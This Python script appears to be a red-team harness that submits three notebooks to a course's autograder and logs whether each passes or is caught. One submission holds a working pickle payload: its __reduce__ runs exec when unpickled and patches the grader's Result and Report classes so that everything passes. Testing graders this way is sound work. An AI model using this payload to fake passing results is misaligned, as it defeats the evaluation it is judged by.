"""Grade a few red-team answers through the class grader (`simlib grade`), as submitted notebooks.

    cd /work/wt-red && nice -n 10 env PYTHONPATH=$PWD SIMLIB_QUICK=1 .venv/bin/python benchmarks/redteam2/classgrade.py

Builds the submissions from the exercise notebooks (the stub cell replaced by the answer's code), runs
``python -m simlib grade`` on them into a temporary folder and adds its rows to
``benchmarks/results/grader_redteam2.json`` under ``"class_grader"`` (per submission: passed or caught, the hint).
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
RESULTS = Path(os.environ.get("RT2_RESULTS", ROOT / "benchmarks" / "results" / "grader_redteam2.json"))

RING_OFF_BY_ONE = '''import torch
import torch.distributed as dist


def ring_all_reduce(tensor):
    """All-gather indices copied from the reduce-scatter (an off-by-one chunk)."""
    rank, n = dist.get_rank(), dist.get_world_size()
    right, left = (rank + 1) % n, (rank - 1) % n
    chunks = torch.tensor_split(tensor.view(-1), n)
    scratch = torch.empty_like(chunks[0])
    for s in range(n - 1):
        out, inc = chunks[(rank - s) % n], chunks[(rank - s - 1) % n]
        got = scratch[: inc.numel()]
        req = dist.isend(out, right)
        dist.recv(got, left)
        req.wait()
        inc += got
    for s in range(n - 1):
        out, inc = chunks[(rank - s) % n], chunks[(rank - s - 1) % n]
        req = dist.isend(out, right)
        dist.recv(inc, left)
        req.wait()
    return tensor
'''

# Unpickled in the grading child, the answer rewrites the grader's verdict classes, then does nothing.
PATCH = """
import simlib.grading as g
g.Report.passed = property(lambda self: True)
_init = g.Result.__init__
def _always(self, *a, **k):
    _init(self, *a, **k)
    object.__setattr__(self, "passed", True)
    if getattr(self, "status", "") not in ("", "pass"):
        object.__setattr__(self, "status", "pass")
g.Result.__init__ = _always
"""
AVERAGE_REDUCE = f'''import torch.distributed as dist

PATCH = {PATCH!r}


class AverageGradients:
    """Does nothing when called; when unpickled it makes every Result pass."""

    def __call__(self, model):
        return None

    def __reduce__(self):
        return (eval, ("exec(" + repr(PATCH) + ", {{}}) or (lambda model: None)", {{}}))


average_gradients = AverageGradients()
'''

SUBMISSIONS = [  # (file name, exercise notebook, answer source or None for the solution notebook, kind, what)
    ("sol_02_average_gradients.ipynb", "02_average_gradients", None, "solution", "the course's solution"),
    (
        "alice_01_ring_all_reduce.ipynb",
        "01_ring_all_reduce",
        RING_OFF_BY_ONE,
        "honest",
        "all-gather with the reduce-scatter's chunk indices (off by one)",
    ),
    (
        "mallory_02_average_gradients.ipynb",
        "02_average_gradients",
        AVERAGE_REDUCE,
        "deliberate",
        "an answer object whose __reduce__ patches simlib.grading's Result/Report when unpickled, averaging nothing",
    ),
]


def notebook(exercise: str, source: str | None) -> dict:
    if source is None:
        return json.loads((ROOT / "solutions" / f"{exercise}.ipynb").read_text())
    nb = json.loads((ROOT / "exercises" / f"{exercise}.ipynb").read_text())
    for cell in nb["cells"]:
        if cell["cell_type"] == "code" and "raise NotImplementedError()" in "".join(cell["source"]):
            cell["source"] = source.splitlines(keepends=True)
            break
    else:
        raise ValueError(f"no stub cell in {exercise}")
    return nb


def main() -> None:
    tmp = Path(tempfile.gettempdir()) / "rt2_class"  # kept after the run, to read the grader's own files
    shutil.rmtree(tmp, ignore_errors=True)
    if True:
        subs, out = tmp / "submissions", tmp / "grades"
        subs.mkdir(parents=True)
        out.mkdir()
        for name, exercise, source, _, _ in SUBMISSIONS:
            (subs / name).write_text(json.dumps(notebook(exercise, source), indent=1))
        t0 = time.perf_counter()
        proc = subprocess.run(
            [sys.executable, "-m", "simlib", "grade", str(subs), "--out", str(out / "grades.csv")],
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=1500,
        )
        seconds = round(time.perf_counter() - t0, 1)
        csv_text = (out / "grades.csv").read_text() if (out / "grades.csv").exists() else "(no grades.csv)"
        (HERE / "classgrade.log").write_text(proc.stdout + proc.stderr + "\n--- grades.csv\n" + csv_text)
        rows = list(csv.DictReader((out / "grades.csv").open())) if (out / "grades.csv").exists() else []
    result = []
    for name, exercise, _, kind, what in SUBMISSIONS:
        mine = [r for r in rows if name.split(".")[0] in json.dumps(r)]
        failed = [
            r for r in mine if str(r.get("pass", r.get("passed", ""))).lower() not in ("true", "pass", "1", "yes")
        ]
        result.append(
            {
                "submission": name,
                "exercise": exercise,
                "kind": kind,
                "what": what,
                "rows": len(mine),
                "passed": bool(mine) and not failed,
                "hint": "; ".join(f"{r.get('check', '')}: {r.get('hint', '')}" for r in failed)[:600],
            }
        )
        print(
            f"{name:40s} {kind:10s} {'passed' if result[-1]['passed'] else 'CAUGHT'} ({len(mine)} rows) "
            f"{result[-1]['hint'][:120]}"
        )
    payload = json.loads(RESULTS.read_text()) if RESULTS.exists() else {"rows": []}
    payload["class_grader"] = {
        "when": time.strftime("%Y-%m-%d %H:%M UTC", time.gmtime()),
        "seconds": seconds,
        "exit_code": proc.returncode,
        "submissions": result,
    }
    RESULTS.write_text(json.dumps(payload, indent=1) + "\n")


if __name__ == "__main__":
    main()
